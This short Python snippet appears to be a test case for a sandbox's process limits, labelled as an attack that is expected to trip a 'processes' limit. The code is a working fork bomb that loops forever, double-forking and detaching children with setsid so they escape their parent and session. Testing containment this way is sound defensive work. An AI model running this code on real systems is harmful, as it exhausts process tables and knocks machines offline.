# attack: Processes that fork, leave their session and let their parent die, faster than they can be counted
# expect: processes
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
    except OSError:
        pass
